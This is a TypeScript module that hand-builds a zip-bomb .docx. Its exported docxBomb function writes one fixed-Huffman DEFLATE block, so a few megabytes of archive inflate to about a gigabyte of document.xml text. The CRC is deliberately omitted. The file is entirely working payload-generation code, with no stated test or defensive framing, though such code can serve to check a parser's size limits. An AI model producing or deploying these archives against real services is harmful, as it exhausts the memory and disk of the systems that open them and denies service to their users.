// Zip archives whose one entry inflates to far more than it weighs, built by hand without ever
// holding the inflated bytes: a docx whose document.xml is a gigabyte of text in a few MB.
// The entry is one fixed-Huffman DEFLATE block: the text's first characters as literals, then
// the same character copied 258 bytes at a time (13 bits a copy), then the closing tags.

class BitWriter {
  private readonly chunks: Buffer[] = [];
  private bytes: number[] = [];
  private current = 0;
  private used = 0;

  get aligned() {
    return this.used === 0;
  }

  /** Plain values go least significant bit first... */
  bits(value: number, count: number) {
    for (let index = 0; index < count; index++) this.bit((value >> index) & 1);
  }

  /** ...Huffman codes most significant bit first. */
  code(value: number, length: number) {
    for (let index = length - 1; index >= 0; index--) this.bit((value >> index) & 1);
  }

  /** Whole bytes, when the bits so far end on a byte boundary. */
  raw(bytes: Buffer) {
    this.chunks.push(Buffer.from(this.bytes), bytes);
    this.bytes = [];
  }

  private bit(bit: number) {
    this.current |= bit << this.used;
    if (++this.used === 8) {
      this.bytes.push(this.current);
      this.current = 0;
      this.used = 0;
    }
  }

  end() {
    if (this.used) this.bytes.push(this.current);
    return Buffer.concat([...this.chunks, Buffer.from(this.bytes)]);
  }
}

/** `before`, then `fill` repeated 1 + 258 × copies times, then `after`, as raw DEFLATE. */
function deflateRun(before: string, fill: string, copies: number, after: string) {
  const out = new BitWriter();
  out.bits(1, 1); // the last block
  out.bits(1, 2); // fixed Huffman codes
  const literal = (char: string) => out.code(0x30 + char.charCodeAt(0), 8); // ASCII < 144
  [...before, fill].forEach(literal);
  const copy = (writer: BitWriter) => {
    writer.code(0xc5, 8); // length code 285: 258 bytes
    writer.code(0, 5); // distance code 0: 1 byte back
  };
  let left = copies;
  for (; left > 0 && !out.aligned; left--) copy(out);
  // From a byte boundary, 8 copies are the same 13 bytes: repeat them rather than write each bit.
  const eight = new BitWriter();
  for (let index = 0; index < 8; index++) copy(eight);
  const pattern = eight.end();
  out.raw(Buffer.alloc(Math.floor(left / 8) * pattern.length).fill(pattern));
  for (left %= 8; left > 0; left--) copy(out);
  [...after].forEach(literal);
  out.code(0, 7); // end of block
  return out.end();
}

/** A zip of one deflated entry (no CRC: readers that check it are not the point here). */
function zipOf(name: string, deflated: Buffer, inflatedSize: number) {
  const fileName = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(deflated.length, 18);
  local.writeUInt32LE(inflatedSize, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(deflated.length, 20);
  central.writeUInt32LE(inflatedSize, 24);
  central.writeUInt16LE(fileName.length, 28);
  const directoryAt = local.length + fileName.length + deflated.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(directoryAt, 16);
  return Buffer.concat([local, fileName, deflated, central, fileName, end]);
}

/** A .docx whose single paragraph is `fill` repeated about `bytes` times. */
export function docxBomb(bytes: number, fill = 'a') {
  const before = '<w:document><w:body><w:p><w:r><w:t>';
  const after = '</w:t></w:r></w:p></w:body></w:document>';
  const copies = Math.ceil(bytes / 258);
  return zipOf('word/document.xml', deflateRun(before, fill, copies, after), before.length + 1 + copies * 258 + after.length);
}
